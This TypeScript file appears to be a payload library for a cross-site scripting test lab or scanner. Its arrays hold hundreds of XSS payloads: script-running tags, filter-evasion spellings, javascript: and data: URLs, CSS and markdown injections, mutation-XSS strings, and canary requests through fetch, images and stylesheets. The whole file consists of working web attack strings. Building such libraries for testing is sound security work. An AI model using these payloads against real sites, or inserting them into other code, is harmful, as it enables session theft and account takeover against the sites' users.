/** What payloads are made of. `CODE` stands for a call that the lab sees, `CANARY` for an address that it serves. */

/** Places of a document that hold text: a page that writes `#` there without escaping it, and what ends the place. */
export const PLACES: readonly { page: string; end: string }[] = [
  { page: '<p>#</p>', end: '' },
  { page: '<p title="#"></p>', end: '">' },
  { page: "<p title='#'></p>", end: "'>" },
  { page: '<p title=#></p>', end: ' x>' },
  { page: '<title>#</title>', end: '</title>' },
  { page: '<textarea>#</textarea>', end: '</textarea>' },
  { page: '<style>p { color: # }</style>', end: '</style>' },
  { page: '<script>var a = "#"</script>', end: '</script>' },
  { page: '<script type="application/json">{"a":"#"}</script>', end: '"}</ScRiPt >' },
  { page: '<!-- # -->', end: '-->' },
  { page: '<noscript>#</noscript>', end: '</noscript>' },
  { page: '<select><option>#</option></select>', end: '</option></select>' },
]

/** Markup that runs code, asks for an address, or waits for a click. */
export const MARKUP: readonly string[] = [
  '<script>CODE</script>',
  '<script src=CANARY></script>',
  '<script type=module>CODE</script>',
  '<script>import("CANARY")</script>',
  '<svg onload=CODE>',
  '<svg><script>CODE</script></svg>',
  '<svg><script>&#120;ss(ID)</script></svg>',
  '<svg><animate onbegin=CODE attributeName=x dur=1s>',
  '<svg><set onbegin=CODE attributename=x>',
  '<svg><foreignObject><iframe onload=CODE>',
  '<svg><a xlink:href=javascript:CODE><text y=9>x',
  '<math><mtext href=javascript:CODE>x',
  '<math><style><img src=x onerror=CODE></style></math>',
  '<svg><style><img src=x onerror=CODE></style></svg>',
  '<svg><title><img src=x onerror=CODE></title></svg>',
  '<img src=x onerror=CODE>',
  '<img srcset=x onerror=CODE>',
  '<image src=x onerror=CODE>',
  '<img src=CANARY>',
  '<input type=image src=x onerror=CODE>',
  '<video><source onerror=CODE></video>',
  '<audio src=x onerror=CODE>',
  '<object data=x onerror=CODE></object>',
  '<iframe onload=CODE></iframe>',
  '<iframe src=javascript:CODE></iframe>',
  '<iframe srcdoc="<script>CODE</script>"></iframe>',
  '<iframe srcdoc="&lt;svg onload=CODE&gt;"></iframe>',
  '<details open ontoggle=CODE>x</details>',
  '<marquee onstart=CODE>x</marquee>',
  '<style onload=CODE></style>',
  '<style>@keyframes k{}</style><p style=animation:k onanimationstart=CODE>',
  '<style>@import"CANARY"</style>',
  '<link rel=stylesheet href=CANARY>',
  '<p style=background:url(CANARY)>x',
  '<a href=javascript:CODE>x</a>',
  '<form action=javascript:CODE><button>x</button></form>',
  '<button form=x formaction=javascript:CODE>x</button>',
  '<input autofocus onfocus=CODE>',
  '<xss-x tabindex=1 autofocus onfocus=CODE>',
  '<meta http-equiv=refresh content="0;url=CANARY">',
]

/** Ways to write the same call. */
export const CALLS: readonly string[] = [
  'xss(ID)',
  'xss`ID`',
  'xss.call(0,ID)',
  '[ID].map(xss)',
  "self['x'+'ss'](ID)",
  "top['xss'](ID)",
  "eval('xss(ID)')",
  "eval('\\x78ss(ID)')",
  "eval(atob('BASE64'))",
  '\\u0078ss(ID)',
  "Function('xss(ID)')()",
  "setTimeout('xss(ID)')",
  "location='javascript:xss(ID)'",
  'alert(ID)',
  'confirm(ID)',
  "fetch('CANARY')",
  "new Image().src='CANARY'",
  "import('CANARY')",
]

/** HTML that decodes to a call, in attributes only. */
export const CODED_CALLS: readonly string[] = ['&#120;ss(ID)', '&#x78;ss(ID)', '&#120ss(ID)', 'xss&lpar;ID&rpar;']

export const CARRIERS: readonly string[] = ['<img src=x onerror="CODE">', '<svg onload="CODE">']
export const SCRIPT_CARRIERS: readonly string[] = [
  '<script nonce=x>CODE</script>',
  '<iframe src="javascript:CODE"></iframe>',
]

/** Tags that a filter by pattern misses. */
export const SPELLINGS: readonly string[] = [
  '<ScRiPt>CODE</sCrIpT>',
  '<script/x>CODE</script/x>',
  '<script\t>CODE</script\n>',
  '<<script>CODE</script>',
  '<svg/onload=CODE>',
  '<svg\tonload=CODE>',
  '<svg\nonload=CODE>',
  '<svg\fonload=CODE>',
  '<svg onload = CODE >',
  '<svg x=">" onload=CODE>',
  "<IMG SRC=x ONERROR='CODE'>",
  '<img/src="x"/onerror=CODE>',
  '<img src=x onerror=CODE //',
  '<img src=x:x onerror=CODE>',
  '<p/=/><svg onload=CODE>',
  '</x><svg onload=CODE>',
  '<!x><svg onload=CODE>',
  '<?x><svg onload=CODE>',
]

/** Attributes beside the one that holds the text, which need no tag of their own. */
export const HANDLERS: readonly string[] = [
  ...['onerror', 'onclick', 'onmouseover', 'onpointerenter', 'onfocus', 'onkeydown', 'onwheel', 'onauxclick', 'oncopy'],
  ...['ondragstart', 'onscrollend', 'ontransitionend', 'onbeforematch', 'oncontextmenu', 'onanimationend'],
]
export const ATTRIBUTES: readonly { page: string; text: string }[] = [
  { page: '<img src=x alt="#">', text: '" HANDLER="CODE' },
  { page: "<img src=x alt='#'>", text: "' HANDLER='CODE" },
  { page: '<img src=x alt=#>', text: 'x HANDLER=CODE' },
]

/** Texts that end a string, a comment, or a template of a script. */
export const SCRIPT_TEXTS: readonly { page: string; text: string }[] = [
  ...['";CODE//', '"-CODE-"', '"+CODE+"', '"/CODE/"', '"\n;CODE//', '";CODE<!--'].map((text) => ({
    page: '<script>var a = "#"</script>',
    text,
  })),
  ...["';CODE//", "'-CODE-'", "'+CODE+'"].map((text) => ({ page: "<script>var a = '#'</script>", text })),
  ...['$' + '{CODE}', '`;CODE//', '`-CODE-`'].map((text) => ({ page: '<script>var a = `#`</script>', text })),
  ...['\u2028CODE//', '\u2029CODE//', '\nCODE//', '\rCODE//'].map((text) => ({
    page: '<script>// #\n</script>',
    text,
  })),
  { page: '<script>/* # */</script>', text: '*/CODE/*' },
  { page: '<script>var a = { b: # }</script>', text: 'CODE' },
  { page: '<p onclick="go(\'#\')">x', text: "');CODE;('" },
  { page: '<p onclick="go(\'#\')">x', text: '&#39;);CODE;(&#39;' },
]

/** Addresses that are scripts, or lead to another site. */
export const ADDRESSES: readonly string[] = [
  'javascript:CODE',
  'JaVaScRiPt:CODE',
  '  javascript:CODE',
  '\u0001javascript:CODE',
  'java\tscript:CODE',
  'java\nscript:CODE',
  'javascript\t:CODE',
  'javascript:\tCODE',
  'javascript://%0aCODE',
  'javascript://x.test/%0d%0aCODE',
  'javascript:/*x*/CODE',
  'javascript:CODE//https://x.test',
  'javascript&colon;CODE',
  '&#106;avascript:CODE',
  '&#x6A;avascript:CODE',
  '&#0000106avascript:CODE',
  'java&Tab;script:CODE',
  'java&#xA;script:CODE',
  "javascript:'<script>CODE<\\/script>'",
  'data:text/html,<script>CODE</script>',
  'data:text/html;charset=utf-8,<svg onload=CODE>',
  'data:text/html;base64,BASE64HTML',
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CODE'/>",
  "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>CODE</script>",
  'CANARY',
  'http:CANARY',
  '/\\xss.test/ID',
  '\\\\xss.test/ID',
]

export const STYLES: readonly { page: string; text: string }[] = [
  ...['background:url(CANARY)', 'x:y;background-image:URL("CANARY")', 'list-style:url(CANARY);display:list-item'].map(
    (text) => ({ page: "<p style='#'>x", text }),
  ),
  ...['\\62 ackground:url(CANARY)', 'background:image-set("CANARY" 1x)', '/**/background:u\\72l(CANARY)'].map(
    (text) => ({ page: "<p style='#'>x", text }),
  ),
  ...['red}*{background:url(CANARY)}', '#fff;background:url(CANARY)', 'red}p::before{content:url(CANARY)}'].map(
    (text) => ({ page: '<style>p { color: # }</style><p>x', text }),
  ),
]

/** Texts that become markup when a page reads its own markup again. */
export const MUTATIONS: readonly string[] = [
  '<noscript><p title="</noscript><img src=x onerror=CODE>">',
  '<xmp><p title="</xmp><img src=x onerror=CODE>">',
  '<textarea><p title="</textarea><img src=x onerror=CODE>">',
  '<svg></p><style><a id="</style><img src=x onerror=CODE>">',
  '<svg><p><style><g title="</style><img src=x onerror=CODE>">',
  '<table><td><svg><desc><img src=x onerror=CODE>',
  '<a title="`<img src=x onerror=CODE>`"><img alt="x`" src=x onerror=CODE>',
]

/** For fields that take nothing but paths, or emails. */
export const NARROW_TEXTS: readonly { page: string; text: string }[] = [
  { page: '<a href="#">x</a>', text: '/"><svg/onload=CODE>' },
  { page: '<a href="#">x</a>', text: '/"onclick="CODE' },
  { page: "<a href='#'>x</a>", text: "/'onclick='CODE" },
  { page: "<p title='#'>x</p>", text: "'onclick=xss`ID`'@x.test" },
  { page: '<script>var a = `#`</script>', text: '$' + '{xss`ID`}@x.test' },
]

export const MARKDOWN: readonly string[] = [
  '[x](javascript:CODE)',
  '[x](JaVaScRiPt:CODE)',
  '[x](data:text/html,<script>CODE</script>)',
  '[x](x" onmouseover="CODE)',
  '[x](//x" onfocus=CODE x=")',
  '[<img src=x onerror=CODE>](x)',
]

/** Markup for the encodings below. */
export const ENCODED_MARKUP: readonly string[] = [
  '<script>CODE</script>',
  '"><svg onload=CODE>',
  "'><img src=x onerror=CODE>",
  '</script><script>CODE</script>',
]
